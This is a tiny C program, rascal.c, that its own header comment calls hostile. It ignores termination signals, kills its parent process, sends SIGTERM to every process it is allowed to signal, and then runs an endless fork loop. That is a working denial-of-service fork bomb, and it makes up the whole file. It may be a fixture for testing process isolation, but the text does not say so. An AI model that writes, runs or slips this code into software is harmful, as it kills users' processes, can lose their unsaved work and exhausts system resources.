// SPDX-License-Identifier: GPL-3.0-or-later
// rascal.c - hostile: kills whom it can, then forks without end and never answers.
#include <signal.h>
#include <unistd.h>

int main(void) {
    signal(SIGTERM, SIG_IGN);
    kill(getppid(), SIGKILL);
    kill(-1, SIGTERM);
    for (;;) fork();
}
